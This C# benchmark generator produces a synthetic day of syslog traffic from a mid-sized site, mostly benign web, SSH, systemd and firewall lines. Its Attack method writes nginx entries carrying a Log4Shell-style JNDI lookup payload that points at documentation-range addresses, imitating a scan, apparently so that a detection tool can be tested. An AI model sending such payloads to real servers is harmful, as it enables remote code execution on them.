using System.Globalization;
using System.Net.Sockets;
using System.Text;

namespace Juming.Benchmarks.Web;

/// <summary>A seeded day of a middle-sized site: a thousand machines at work, and two hundred strangers each of whom tries ten of five hundred web servers.</summary>
internal static class BusyDay
{
    private const int Machines = 1000;
    private const int Strangers = 200;
    private const int ServersTried = 10;

    /// <summary>Sends it over syslog TCP.</summary>
    /// <param name="port">The site's TCP receiver on loopback.</param>
    /// <param name="lines">Lines in all, at least 10,000.</param>
    public static async Task Send(int port, int lines)
    {
        var random = new Random(20260102);
        using var client = new TcpClient();
        await client.ConnectAsync("127.0.0.1", port);
        await using var stream = client.GetStream();
        var end = TimeProvider.System.GetUtcNow();
        var text = new StringBuilder();
        var every = lines / (Strangers * ServersTried);
        for (var i = 0; i < lines; i++)
        {
            var at = end.AddDays(-1).AddSeconds(86_400.0 * i / lines);
            var attempt = i / every;
            if (i % every == 0 && attempt < Strangers * ServersTried) Attack(text, at, attempt);
            else Quiet(text, at, random);
            if (text.Length < 64 * 1024 && i < lines - 1) continue;
            await stream.WriteAsync(Encoding.UTF8.GetBytes(text.ToString()));
            text.Clear();
        }
    }

    private static void Attack(StringBuilder text, DateTimeOffset at, int attempt)
    {
        // One stranger's tries lie together in time, as a scan's do; strangers that share a server are hours apart.
        var (stranger, server) = (attempt / ServersTried, attempt % (50 * ServersTried));
        var from = $"203.0.113.{stranger + 1}";
        Web(text, at, server, from, "/?x=${jndi:ldap://" + from + ":1389/a}", 404, "curl/8.5.0");
    }

    private static void Quiet(StringBuilder text, DateTimeOffset at, Random random)
    {
        var machine = random.Next(Machines);
        var address = string.Create(CultureInfo.InvariantCulture, $"10.20.{machine / 250}.{(machine % 250) + 1}");
        switch (random.Next(4))
        {
            case 0: Web(text, at, random.Next(50 * ServersTried), address, "/orders?page=" + random.Next(90).ToString(CultureInfo.InvariantCulture), 200, "Mozilla/5.0 (X11; Linux x86_64)"); break;
            case 1: Line(text, at, $"srv-{machine:0000}", $"sshd[{random.Next(1000, 9999)}]: Accepted publickey for user{random.Next(300)} from {address} port {random.Next(1024, 60_000)} ssh2"); break;
            case 2: Line(text, at, $"srv-{machine:0000}", $"systemd[1]: Started session-{random.Next(9999)}.scope - Session {random.Next(9999)} of User root."); break;
            default: Line(text, at, "gate-01", $"kernel: IN=lan OUT=wan SRC={address} DST=198.51.100.{random.Next(1, 250)} LEN=60 TTL=63 PROTO=TCP SPT={random.Next(1024, 60_000)} DPT=443"); break;
        }
    }

    private static void Web(StringBuilder text, DateTimeOffset at, int server, string from, string url, int status, string agent) =>
        Line(text, at, $"web-{server:000}", $"nginx: {from} - - [{at.UtcDateTime.ToString("dd/MMM/yyyy:HH:mm:ss", CultureInfo.InvariantCulture)} +0000] \"GET {url} HTTP/1.1\" {status} 512 \"-\" \"{agent}\"");

    private static void Line(StringBuilder text, DateTimeOffset at, string host, string message)
    {
        var colon = message.IndexOf(':', StringComparison.Ordinal);
        var program = message[..colon].Split('[', ']');
        text.Append(CultureInfo.InvariantCulture, $"<134>1 {at.UtcDateTime:yyyy-MM-ddTHH:mm:ss.ffffff}Z {host} {program[0]} {(program.Length > 1 ? program[1] : "-")} - - ").Append(message.AsSpan(colon + 2)).Append('\n');
    }
}
